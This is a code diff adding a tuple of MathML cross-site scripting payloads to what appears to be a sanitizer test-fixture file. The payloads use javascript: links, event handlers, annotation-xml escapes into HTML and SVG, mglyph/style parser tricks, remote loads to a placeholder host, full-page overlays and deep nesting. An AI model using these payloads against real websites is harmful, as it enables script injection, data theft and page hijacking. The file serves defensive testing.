@@ -1,4 +1,4 @@
-"""Twenty-five texts that run a script or call out where a page takes text for HTML.
+"""Twenty-five texts that run a script or call out where a page takes text for HTML, formulas and drawings.
 
 `PWNED` is what each of them tries to do; every address leads to a host that does not exist.
 """
@@ -35,3 +35,42 @@ PAYLOADS = (
     f"{{{{constructor.constructor('{PWNED}')()}}}}${{{PWNED}}}`;{PWNED}//'\"-->",
 )
 assert len(PAYLOADS) == 25
+
+MATH = "http://www.w3.org/1998/Math/MathML"
+HTML = "http://www.w3.org/1999/xhtml"
+FORMULAS = (
+    f'<math><mi href="javascript:{PWNED}">x</mi><mo>=</mo><mn>1</mn></math>',
+    f'<math xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:{PWNED}"><mi>x</mi></math>',
+    f'<math onclick="{PWNED}" onfocus="{PWNED}" tabindex="0" autofocus="">'
+    f'<mi onmouseover="{PWNED}">x</mi></math>',
+    f'<math style="background: url({FAR}m.png); position: fixed; inset: 0">'
+    '<mi style="color: red">x</mi></math>',
+    "<math><semantics><mi>x</mi><annotation-xml encoding='text/html'>"
+    f'<script>{PWNED}</script><img src="{FAR}a.png" onerror="{PWNED}"/></annotation-xml></semantics></math>',
+    "<math><semantics><mi>x</mi><annotation-xml encoding='application/xhtml+xml'>"
+    f'<iframe xmlns="{HTML}" src="javascript:parent.{PWNED}"></iframe></annotation-xml></semantics></math>',
+    "<math><semantics><mi>x</mi><annotation-xml encoding='SVG1.1'><svg xmlns='http://www.w3.org/2000/svg'"
+    f' onload="{PWNED}"><script>{PWNED}</script></svg></annotation-xml></semantics></math>',
+    f'<math><maction actiontype="statusline#{FAR}" xlink:href="javascript:{PWNED}">'
+    "<mi>x</mi><mi>y</mi></maction></math>",
+    f'<math><maction actiontype="toggle" selection="2"><mi>x</mi>'
+    f'<mtext><img src="x" onerror="{PWNED}"/></mtext></maction></math>',
+    f'<math><mglyph src="{FAR}glyph.png" alt="x"/><mi><mglyph src="{FAR}glyph2.png" alt="x"/>x</mi></math>',
+    f"<math><mtext><script>{PWNED}</script><style>@import url({FAR}m.css);</style>x</mtext></math>",
+    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={PWNED}&gt;"/>'
+    "</mglyph></table>x</mtext></math>",
+    f"<math><mi>&lt;img src=x onerror={PWNED}&gt;</mi>"
+    f"<mi>&#60;script&#62;{PWNED}&#60;/script&#62;</mi></math>",
+    f'<m:math xmlns:m="{MATH}"><m:mi m:href="javascript:{PWNED}">x</m:mi>'
+    f"<m:script>{PWNED}</m:script></m:math>",
+    f'<math><mrow><svg><foreignObject><body onload="{PWNED}"><script>{PWNED}</script></body></foreignObject>'
+    "</svg><mi>x</mi></mrow></math>",
+    f'<math><mi mathvariant="javascript:{PWNED}" mathbackground="url({FAR}b.png)"'
+    f' background="{FAR}c.png">x</mi></math>',
+    "<math><mspace width='99999em' height='99999em'/>"
+    "<mpadded voffset='-500em' lspace='-500em'><mi>x</mi></mpadded>"
+    "<mo minsize='99999em'>(</mo></math>",
+    '<math><mstyle scriptlevel="-30"><mi>x</mi></mstyle></math>',
+    "<math>" + "<mrow>" * 300 + "<mi>x</mi>" + "</mrow>" * 300 + "</math>",
+)
+"""Formulas that run a script, call out, cover the page, or nest without end."""
